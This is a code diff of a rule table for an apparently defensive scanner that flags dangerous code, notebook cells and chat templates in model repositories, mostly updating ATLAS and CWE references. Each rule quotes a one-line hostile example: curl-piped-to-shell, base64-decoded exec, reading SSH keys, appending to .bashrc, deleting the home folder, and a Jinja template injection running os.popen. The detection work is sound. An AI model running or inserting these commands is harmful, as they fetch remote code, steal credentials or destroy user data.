@@ -20,7 +20,7 @@ RULES: tuple[Rule, ...] = (
         example="`os.system('curl http://host/x | sh')`",
         fix="Do not run it. Delete it and ask who made the file.",
         cwe=(78, 506),
-        atlas=("AML.T0011",),
+        atlas=("AML.T0011.000",),
     ),
     Rule(
         "WB-COD-002",
@@ -31,7 +31,7 @@ RULES: tuple[Rule, ...] = (
         example="`subprocess.run(['nvidia-smi'])`",
         fix=("Read what it runs. Remove it, or allow the file if the command is harmless."),
         cwe=(78,),
-        atlas=("AML.T0011",),
+        atlas=("AML.T0011.000",),
     ),
     Rule(
         "WB-COD-003",
@@ -42,7 +42,7 @@ RULES: tuple[Rule, ...] = (
         example="`exec(base64.b64decode('...'))`",
         fix="Do not run it. Delete it and ask who made the file.",
         cwe=(94, 506),
-        atlas=("AML.T0011",),
+        atlas=("AML.T0011.000",),
     ),
     Rule(
         "WB-COD-004",
@@ -56,7 +56,7 @@ RULES: tuple[Rule, ...] = (
         example="`eval(config['activation'])`",
         fix="Replace it by a table of names, or read where the text comes from.",
         cwe=(95,),
-        atlas=("AML.T0011",),
+        atlas=("AML.T0011.000",),
     ),
     Rule(
         "WB-COD-005",
@@ -108,7 +108,7 @@ RULES: tuple[Rule, ...] = (
         what="The code names a file that holds keys, passwords or cookies.",
         example="`open('/root/.ssh/id_rsa')`",
         fix="Read what it does with it.",
-        cwe=(522,),
+        cwe=(200,),
         atlas=("AML.T0025",),
     ),
     Rule(
@@ -120,7 +120,7 @@ RULES: tuple[Rule, ...] = (
         example="`open('/root/.bashrc', 'a')`",
         fix="Do not run it. If it ran, look into that file.",
         cwe=(506,),
-        atlas=("AML.T0011",),
+        atlas=("AML.T0011.000",),
     ),
     Rule(
         "WB-COD-010",
@@ -134,7 +134,7 @@ RULES: tuple[Rule, ...] = (
         example="`builtins.open = mine`",
         fix="Read what it does with it.",
         cwe=(506,),
-        atlas=("AML.T0011",),
+        atlas=("AML.T0011.000",),
     ),
     Rule(
         "WB-COD-011",
@@ -143,9 +143,9 @@ RULES: tuple[Rule, ...] = (
         title="Code that deletes files of the user",
         what="The code deletes a whole home or system folder.",
         example="`shutil.rmtree(os.path.expanduser('~'))`",
-        fix="Do not run it.",
+        fix="Do not run it. Delete it and ask who made the file.",
         cwe=(506,),
-        atlas=(),
+        atlas=("AML.T0011.000",),
     ),
     Rule(
         "WB-COD-012",
@@ -158,8 +158,8 @@ RULES: tuple[Rule, ...] = (
         ),
         example="`getattr(os, name)()`",
         fix="Ask who made it to write the names.",
-        cwe=(656,),
-        atlas=("AML.T0011",),
+        cwe=(912,),
+        atlas=("AML.T0011.000",),
     ),
     Rule(
         "WB-COD-013",
@@ -186,7 +186,7 @@ RULES: tuple[Rule, ...] = (
         example="`pickle.load(open(path, 'rb'))`",
         fix="Scan the files that it loads, or use safetensors or JSON.",
         cwe=(502,),
-        atlas=("AML.T0011",),
+        atlas=("AML.T0011.000",),
     ),
     Rule(
         "WB-COD-015",
@@ -208,12 +208,12 @@ RULES: tuple[Rule, ...] = (
         example="`ctypes.CDLL('./x.so')`",
         fix="Read where the library comes from.",
         cwe=(114,),
-        atlas=("AML.T0011",),
+        atlas=("AML.T0011.000",),
     ),
     Rule(
         "WB-COD-017",
         Answer.UNKNOWN,
-        Severity.MEDIUM,
+        Severity.HIGH,
         title="Code that trusts another repository",
         what=(
             "The code loads a model from a repository that it names and runs the code of "
@@ -246,7 +246,7 @@ RULES: tuple[Rule, ...] = (
         ),
         example="`# coding: utf-7`",
         fix="Convert it to UTF-8 and scan it again.",
-        cwe=(838,),
+        cwe=(176,),
         atlas=(),
     ),
     Rule(
@@ -272,7 +272,7 @@ RULES: tuple[Rule, ...] = (
         example="`torch.save(x, '/etc/x')` in `code/__torch__.py`",
         fix="Ask who made the archive which operators it needs.",
         cwe=(829,),
-        atlas=("AML.T0011",),
+        atlas=("AML.T0011.000",),
     ),
     Rule(
         "WB-NBK-001",
@@ -308,7 +308,7 @@ RULES: tuple[Rule, ...] = (
         example="`!./run`",
         fix="Read the cell.",
         cwe=(78,),
-        atlas=("AML.T0011",),
+        atlas=("AML.T0011.000",),
     ),
     Rule(
         "WB-TPL-001",
@@ -322,7 +322,7 @@ RULES: tuple[Rule, ...] = (
         example="`{{ cycler.__init__.__globals__.os.popen('id') }}`",
         fix="Do not load it. Replace the template.",
         cwe=(1336,),
-        atlas=("AML.T0011",),
+        atlas=("AML.T0011.000",),
     ),
     Rule(
         "WB-TPL-002",
@@ -336,7 +336,7 @@ RULES: tuple[Rule, ...] = (
         example="`{{ config.items() }}`",
         fix="Ask who made it, or take the template of the original model.",
         cwe=(1336,),
-        atlas=("AML.T0011",),
+        atlas=("AML.T0011.000",),
     ),
     Rule(
         "WB-TPL-003",
